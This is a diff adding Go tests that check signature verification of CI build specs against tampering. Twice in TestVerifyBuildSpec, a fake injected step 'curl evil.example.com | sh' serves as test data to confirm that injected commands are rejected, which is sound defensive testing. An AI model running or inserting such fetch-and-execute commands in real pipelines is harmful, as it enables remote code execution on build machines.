@@ -0,0 +1,163 @@
+package screwdriver
+
+import (
+	"crypto/ed25519"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"encoding/pem"
+	"strings"
+	"testing"
+)
+
+func signedBuild(t *testing.T, priv ed25519.PrivateKey) Build {
+	build := Build{
+		ID:          1234,
+		Commands:    []CommandDef{{Name: "test", Cmd: "make test && echo <done>"}},
+		Environment: []map[string]string{{"FOO": "bar", "ANSWER": "42"}},
+	}
+	spec, err := build.SpecBytes(Job{})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	build.SpecSignature = base64.StdEncoding.EncodeToString(ed25519.Sign(priv, spec))
+	return build
+}
+
+func TestSpecBytes(t *testing.T) {
+	build := signedBuild(t, ed25519.NewKeyFromSeed(make([]byte, ed25519.SeedSize)))
+	spec, err := build.SpecBytes(Job{})
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	want := `{"environment":[{"ANSWER":"42","FOO":"bar"}],"id":1234,"steps":[{"command":"make test && echo <done>","name":"test"}]}`
+	if string(spec) != want {
+		t.Errorf("SpecBytes() = %s, want %s", spec, want)
+	}
+}
+
+func TestSpecBytesOfResponse(t *testing.T) {
+	response := `{"id": 1234, "jobId": 56, "sha": "abc",
+		"steps": [{"name": "test", "command": "make test", "priority": 2.50, "when": {"branch": "main"}}],
+		"environment": [], "teardownPatterns": null, "specSignature": "c2ln"}`
+	var build Build
+	if err := json.Unmarshal([]byte(response), &build); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	job := Job{Permutations: []JobPermutation{{Annotations: JobAnnotations{Shell: "/bin/zsh"}}}}
+
+	spec, err := build.SpecBytes(job)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	want := `{"environment":[],"id":1234,"shell":"/bin/zsh","steps":[{"command":"make test","name":"test","priority":2.50,"when":{"branch":"main"}}]}`
+	if string(spec) != want {
+		t.Errorf("SpecBytes() = %s, want %s", spec, want)
+	}
+}
+
+// Returns the response of a build with the spec signed by priv for a job with the shell annotation
+// shell, and replacements made after the signature
+func signedResponse(t *testing.T, priv ed25519.PrivateKey, shell string, replacements ...string) []byte {
+	response := `{"id":1234,"steps":[{"name":"test","command":"make test","nice":2}],"environment":[{"FOO":"bar"}]}`
+	var build Build
+	if err := json.Unmarshal([]byte(response), &build); err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	job := Job{Permutations: []JobPermutation{{Annotations: JobAnnotations{Shell: shell}}}}
+	spec, err := build.SpecBytes(job)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	signature := base64.StdEncoding.EncodeToString(ed25519.Sign(priv, spec))
+	response = strings.Replace(response, `{"id"`, `{"specSignature":"`+signature+`","id"`, 1)
+	return []byte(strings.NewReplacer(replacements...).Replace(response))
+}
+
+func TestVerifyBuildSpecOfResponse(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	bash := Job{Permutations: []JobPermutation{{Annotations: JobAnnotations{Shell: "/bin/bash"}}}}
+
+	for _, test := range []struct {
+		name     string
+		response []byte
+		job      Job
+		valid    bool
+	}{
+		{"signed build", signedResponse(t, priv, "/bin/bash"), bash, true},
+		{"reformatted response", signedResponse(t, priv, "/bin/bash", `,"`, `, "`, `":`, `": `), bash, true},
+		{"changed unknown field", signedResponse(t, priv, "/bin/bash", `"nice":2`, `"nice":0`), bash, false},
+		{"injected unknown field", signedResponse(t, priv, "/bin/bash", `"nice":2`, `"nice":2,"cache":true`), bash, false},
+		{"changed shell", signedResponse(t, priv, "/bin/bash"), Job{Permutations: []JobPermutation{{Annotations: JobAnnotations{Shell: "/tmp/evil"}}}}, false},
+		{"removed shell", signedResponse(t, priv, "/bin/bash"), Job{}, false},
+		{"added shell", signedResponse(t, priv, ""), bash, false},
+	} {
+		var build Build
+		if err := json.Unmarshal(test.response, &build); err != nil {
+			t.Fatalf("Unexpected error: %v", err)
+		}
+		if err := VerifyBuildSpec(build, test.job, pub); (err == nil) != test.valid {
+			t.Errorf("VerifyBuildSpec() of the %s = %v, want valid %v", test.name, err, test.valid)
+		}
+	}
+}
+
+func TestVerifyBuildSpec(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	if err := VerifyBuildSpec(signedBuild(t, priv), Job{}, pub); err != nil {
+		t.Errorf("Unexpected error for a signed build: %v", err)
+	}
+
+	injected := signedBuild(t, priv)
+	injected.Commands = append(injected.Commands, CommandDef{Name: "evil", Cmd: "curl evil.example.com | sh"})
+	changedEnv := signedBuild(t, priv)
+	changedEnv.Environment[0]["FOO"] = "baz"
+	injectedTemplate := signedBuild(t, priv)
+	injectedTemplate.StepTemplates = map[string]StepTemplate{"login": {Steps: []CommandDef{{Name: "evil", Cmd: "curl evil.example.com | sh"}}}}
+	otherBuild := signedBuild(t, priv)
+	otherBuild.ID = 4321
+	unsigned := signedBuild(t, priv)
+	unsigned.SpecSignature = ""
+	garbled := signedBuild(t, priv)
+	garbled.SpecSignature = "not base64!"
+
+	for name, build := range map[string]Build{
+		"injected step":       injected,
+		"changed environment": changedEnv,
+		"injected template":   injectedTemplate,
+		"other build":         otherBuild,
+		"unsigned":            unsigned,
+		"garbled":             garbled,
+	} {
+		if err := VerifyBuildSpec(build, Job{}, pub); err == nil {
+			t.Errorf("Expected an error for the %s", name)
+		}
+	}
+}
+
+func TestParseBuildSpecKey(t *testing.T) {
+	pub, _, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+	der, err := x509.MarshalPKIXPublicKey(pub)
+	if err != nil {
+		t.Fatalf("Unexpected error: %v", err)
+	}
+
+	key, err := ParseBuildSpecKey(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))
+	if err != nil || !key.Equal(pub) {
+		t.Errorf("ParseBuildSpecKey() = %v, %v, want %v", key, err, pub)
+	}
+
+	if _, err := ParseBuildSpecKey([]byte("not a key")); err == nil {
+		t.Errorf("Expected an error for data without a key")
+	}
+}